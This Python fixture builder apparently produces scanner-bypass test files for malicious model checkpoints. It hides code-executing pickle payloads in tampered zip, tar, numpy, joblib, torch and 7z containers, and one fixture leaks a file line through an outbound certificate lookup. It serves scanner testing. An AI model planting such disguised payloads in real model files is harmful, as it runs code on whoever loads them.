"""Builds the files of `tests/advisories/bypasses.toml` whose trick is the container. Nothing is loaded here.

open("model.pt", "wb").write(zip_flags())
"""

from __future__ import annotations

import io
import struct
import tarfile
import tempfile
import warnings
import zipfile
import zlib
from pathlib import Path

from bypass_tricks import RUN, SHELL, broken_behind, import_and_methodcaller, modern, vars_and_getitem
from pickle_forge import (
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    TUPLE,
    call,
    literal,
    name,
    number,
    program,
    stack_name,
    text,
)


def name_lookup() -> bytes:
    """An array of one object, which is a call with the line of a file in it."""
    line = call(name("linecache", "getline"), text("nothing"), number(1))
    inner = program(call(name("ssl", "get_server_certificate"), MARK + line + number(443) + TUPLE))
    return _array_of_objects(inner)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # two entries of one name are what a trick wants
        with zipfile.ZipFile(out, "w", method) as archive:
            for member, data in members:
                archive.writestr(member, data)
    return out.getvalue()


def checkpoint(data: bytes, *more: tuple[str, bytes], called: str = "data.pkl") -> bytes:
    return zipped((f"a/{called}", data), ("a/version", b"3\n"), *more)


def zip_with_config() -> bytes:
    """torch.load with `pickle_file="config.p"` opens the second."""
    return checkpoint(program(EMPTY_DICT), ("a/config.p", program(RUN)))


def zip_two_names() -> bytes:
    return checkpoint(program(RUN)).replace(b"a/data.pkl", b"a/datap.kl", 1)


def zip_flags(inner: bytes = b"") -> bytes:
    data = bytearray(checkpoint(inner or program(RUN)))
    data[data.index(b"PK\x01\x02") + 8] |= 0x21
    return bytes(data)


def zip_checksum() -> bytes:
    data = bytearray(checkpoint(program(RUN)))
    at = data.index(b"PK\x01\x02") + 16
    data[at : at + 4] = bytes(b ^ 0xFF for b in data[at : at + 4])
    return bytes(data)


def zip_capitals() -> bytes:
    return checkpoint(SHELL + b"(Vtrue\ntR.", called="DATA.PKL")


def zip_duplicate() -> bytes:
    return zipped(("a/data.pkl", program(RUN)), ("a/version", b"3\n"), ("a/data.pkl", program(EMPTY_DICT)))


def zip_json() -> bytes:
    return zipped(("root/metadata.json", modern(RUN)), ("bundle.json", b"{}"))


def zip_encrypted() -> bytes:
    data = bytearray(zipped(("model.pkl", program(RUN)), method=zipfile.ZIP_DEFLATED))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def torch_package() -> bytes:
    return zipped(
        ("p/.data/extern_modules", b"os\n"),
        ("p/.data/version", b"6\n"),
        ("p/mod.py", b"class Widget:\n    pass\n"),
        ("p/model/model.pkl", modern(stack_name("mod", "Widget"))),
    )


def torchscript_writes() -> bytes:
    """What PyTorch's compiler makes of a module with `tensor.save`-like file access, in the few entries that count."""
    code = (
        b"class Writes(Module):\n"
        b"  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
        b"  def forward(self: __torch__.Writes,\n    x: Tensor) -> Tensor:\n"
        b'    _0 = torch.save(x, "nbguard-marker")\n    return x\n'
    )
    model = modern(stack_name("__torch__", "Writes"), EMPTY_TUPLE, NEWOBJ, literal({"training": True}), BUILD)
    return zipped(
        ("m/data.pkl", model),
        ("m/constants.pkl", modern(EMPTY_TUPLE)),
        ("m/version", b"3\n"),
        ("m/code/__torch__.py", code),
    )


MAGIC = program(b"\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19")


def legacy(first: bytes = MAGIC, fourth: bytes = b"") -> bytes:
    """An old checkpoint: magic number, version, this machine, the object, the keys of its storages."""
    return b"".join(
        (first, program(number(1001)), program(EMPTY_DICT), fourth or program(EMPTY_DICT), program(EMPTY_LIST))
    )


def computed_magic() -> bytes:
    return legacy(first=program(call(name("builtins", "eval"), text("MAGIC_NUMBER"))), fourth=program(RUN))


def legacy_later() -> bytes:
    return legacy(fourth=program(RUN))


def oldest_tar() -> bytes:
    out = io.BytesIO()
    one = program(number(0))
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in (
            ("sys_info", program(EMPTY_DICT)),
            ("storages", one),
            ("tensors", one),
            ("pickle", program(RUN)),
        ):
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def joblib_compressed() -> bytes:
    return zlib.compress(program(RUN))


def joblib_objects() -> bytes:
    """An array of objects in a joblib file: where others have raw numbers it has a pickle."""
    import joblib
    import numpy as np

    out = io.BytesIO()
    joblib.dump({"w": np.arange(3.0), "o": np.array([None, "here"], dtype=object)}, out)
    data = out.getvalue()
    at = data.index(b"\x8c\x04here")
    return data[:at] + modern(RUN)[2:-1] + data[at + 6 :]


def _array_of_objects(inner: bytes) -> bytes:
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b" " * (117 - len(head)) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + inner


def numpy_objects() -> bytes:
    return _array_of_objects(import_and_methodcaller())


def numpy_archive() -> bytes:
    return zipped(("payload.npy", _array_of_objects(vars_and_getitem())))


def seven_zip() -> bytes:
    import py7zr

    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder) / "packed"
        with py7zr.SevenZipFile(place, "w") as archive:
            archive.writestr(broken_behind(), "model/data.pkl")
        return place.read_bytes()
